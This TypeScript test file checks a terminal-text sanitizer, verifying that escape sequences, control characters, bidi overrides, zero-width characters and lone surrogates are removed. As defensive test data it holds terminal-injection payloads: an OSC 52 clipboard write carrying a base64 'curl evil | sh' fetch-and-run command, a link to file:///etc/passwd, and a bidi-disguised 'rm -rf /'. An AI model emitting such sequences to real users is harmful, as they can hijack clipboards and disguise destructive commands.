import { MAX_COMBINING_MARKS } from '../../src/budgets.js';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitize, sanitizeLine } from '../../src/text/sanitize.js';

const ESC = '\x1b';
const FORBIDDEN =
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200c\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;
const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Code points, lone surrogates, controls and escape-sequence fragments, mixed. */
const hostileUnit = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 4 }),
  fc.integer({ min: 0, max: 0x9f }).map((c) => String.fromCharCode(c)),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.constantFrom(
    ESC,
    '[',
    ']',
    '\\',
    'P',
    '_',
    '^',
    'X',
    ';',
    '52',
    '\x07',
    '\x9b',
    '\x9c',
    '\x9d',
    '\x90',
    '\r',
    '\n',
    '\t',
    '\u202e',
    '\u2066',
    '\u200d',
    '\u200b',
    '\ufeff',
    '\u0301',
    '\u0e49',
    '👨',
    '👩',
    '\ufe0f',
  ),
);
const hostileString = fc.array(hostileUnit, { maxLength: 60 }).map((parts) => parts.join(''));

describe('sanitize: escape sequences are removed with their payloads', () => {
  const cases: Array<[string, string, string]> = [
    ['CSI colour', `a${ESC}[31;1mred${ESC}[0m`, 'ared'],
    ['CSI clear + home', `${ESC}[2J${ESC}[Hok`, 'ok'],
    ['CSI private mode', `${ESC}[?1049hx${ESC}[?25l`, 'x'],
    ['CSI with intermediate', `${ESC}[2 qx`, 'x'],
    ['OSC 52 BEL', `a${ESC}]52;c;aGVsbG8=\x07b`, 'ab'],
    ['OSC 52 ST', `a${ESC}]52;c;aGVsbG8=${ESC}\\b`, 'ab'],
    ['OSC 0 title', `${ESC}]0;pwned title\x07x`, 'x'],
    ['OSC 2 title', `${ESC}]2;pwned${ESC}\\x`, 'x'],
    ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
    ['DCS', `${ESC}Pq#0;2;0;0;0#0~~@@${ESC}\\x`, 'x'],
    ['SOS', `${ESC}Xhidden${ESC}\\x`, 'x'],
    ['PM', `${ESC}^hidden${ESC}\\x`, 'x'],
    ['APC', `${ESC}_Gf=100;payload${ESC}\\x`, 'x'],
    ['8-bit CSI', 'a\x9b31mb', 'ab'],
    ['8-bit OSC', 'a\x9d52;c;aGk=\x9cb', 'ab'],
    ['8-bit OSC BEL', 'a\x9d0;title\x07b', 'ab'],
    ['8-bit DCS', 'a\x90payload\x9cb', 'ab'],
    ['8-bit APC', 'a\x9fpayload\x9cb', 'ab'],
    ['reset', `${ESC}cx`, 'x'],
    ['save cursor', `${ESC}7x${ESC}8`, 'x'],
    ['charset', `${ESC}(0x${ESC}(B`, 'x'],
    ['keypad', `${ESC}=x${ESC}>`, 'x'],
    ['lone ESC at end', `x${ESC}`, 'x'],
    ['unterminated OSC stops at line end', `${ESC}]0;title\nnext`, '\nnext'],
  ];
  for (const [name, input, expected] of cases) {
    it(name, () => {
      expect(sanitize(input)).toBe(expected);
    });
  }
});

describe('sanitize: controls, bidi, zero-width, surrogates', () => {
  it('keeps newlines and tabs, drops other C0, DEL and C1', () => {
    expect(sanitize('a\tb\nc\x00d\x07e\x08f\x7fg\x85h\x1ai')).toBe('a\tb\ncdefghi');
  });

  it('normalises CRLF and lone CR to LF, and LS/PS to LF', () => {
    expect(sanitize('a\r\nb\rc\u2028d\u2029e')).toBe('a\nb\nc\nd\ne');
    expect(sanitize('10%\r20%\r\n')).toBe('10%\n20%\n');
  });

  it('drops bidi controls', () => {
    expect(sanitize('rm \u202e-rf /\u202c \u2066x\u2069 \u200ey\u200f \u061cz')).toBe(
      'rm -rf / x y z',
    );
  });

  it('drops zero-width characters but keeps ZWJ inside emoji sequences', () => {
    expect(sanitize('a\u200bb\u200cc\u200dd\u2060e\ufefff')).toBe('abcdef');
    const family = '👨\u200d👩\u200d👧';
    expect(sanitize(family)).toBe(family);
    const heart = '❤\ufe0f\u200d🔥';
    expect(sanitize(heart)).toBe(heart);
    const skin = '👩🏽\u200d💻';
    expect(sanitize(skin)).toBe(skin);
  });

  it('replaces lone surrogates and keeps pairs', () => {
    expect(sanitize('a\ud800b\udc00c😀')).toBe('a\ufffdb\ufffdc😀');
    expect(sanitize('\ud83d')).toBe('\ufffd');
  });

  it('caps combining-mark floods', () => {
    const flood = 'Z' + '\u0301'.repeat(200) + 'a';
    expect(sanitize(flood)).toBe('Z' + '\u0301'.repeat(MAX_COMBINING_MARKS) + 'a');
    const thai = 'ด' + '\u0e49'.repeat(30);
    expect(sanitize(thai)).toBe('ด' + '\u0e49'.repeat(MAX_COMBINING_MARKS));
    // A removed control cannot split a flood into two allowed runs.
    const split = 'e' + '\u0301'.repeat(3) + '\x00' + '\u0301'.repeat(3);
    expect(sanitize(split)).toBe('e' + '\u0301'.repeat(MAX_COMBINING_MARKS));
    expect(sanitize('e\u0301\u0302')).toBe('e\u0301\u0302');
  });

  it('returns clean text unchanged (same string)', () => {
    for (const s of [
      '',
      'plain ascii',
      'Grüße, 中文, 한국어, emoji 😀 and e\u0301',
      'tab\there\nline',
    ]) {
      expect(sanitize(s)).toBe(s);
    }
  });

  it('renders a hostile sample inert', () => {
    const hostile = [
      `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`,
      `${ESC}]0;fake title${ESC}\\`,
      `${ESC}]8;;file:///etc/passwd${ESC}\\link${ESC}]8;;${ESC}\\`,
      `${ESC}[2J${ESC}[?1049l${ESC}[6n`,
      `${ESC}P1$r${ESC}\\`,
      '\x9d52;c;aGVsbG8=\x9c\x9b2J\x90dcs\x9c',
      '\x07\x00\x1a\r',
      '\u202eevil\u202c\u2066\u2069',
      '\ud800',
    ].join('text ');
    const out = sanitize(hostile);
    expect(out).not.toMatch(FORBIDDEN);
    expect(out).not.toContain(ESC);
    expect(out).not.toContain('\x07');
    expect(out).not.toMatch(LONE_SURROGATE);
    expect(out).not.toContain('Y3VybCBldmlsIHwgc2g='); // the OSC 52 payload is gone too
    expect(out).not.toContain('fake title');
  });

  it('never throws and never leaves a forbidden character (property)', () => {
    fc.assert(
      fc.property(hostileString, (s) => {
        const out = sanitize(s);
        expect(out).not.toMatch(FORBIDDEN);
        expect(out).not.toMatch(LONE_SURROGATE);
        expect(out).not.toContain('\r');
      }),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        expect(sanitize(s)).not.toMatch(FORBIDDEN);
      }),
      { numRuns: 1000 },
    );
  });

  it('is idempotent (property)', () => {
    fc.assert(
      fc.property(hostileString, (s) => {
        const once = sanitize(s);
        expect(sanitize(once)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });

  it('handles non-strings and huge inputs', () => {
    expect(sanitize(undefined as unknown as string)).toBe('');
    const big = 'x'.repeat(1_000_000) + `${ESC}]52;c;QQ==\x07` + '中'.repeat(100_000);
    const out = sanitize(big);
    expect(out.length).toBe(1_100_000);
  });
});

describe('sanitizeLine', () => {
  it('folds newlines and tabs (and spaces around them) to one space', () => {
    expect(sanitizeLine('Title\n\nwith  \t lines\r\nand\ttabs')).toBe('Title with lines and tabs');
    expect(sanitizeLine(`a${ESC}[1mb`)).toBe('ab');
  });

  it('handles long runs of spaces without regex backtracking', () => {
    const spaces = ' '.repeat(300_000);
    expect(sanitizeLine(`a${spaces}b\n${spaces}c`)).toBe(`a${spaces}b c`);
  });

  it('never returns a newline or tab (property)', () => {
    fc.assert(
      fc.property(hostileString, (s) => {
        expect(sanitizeLine(s)).not.toMatch(/[\n\t]/);
      }),
    );
  });
});
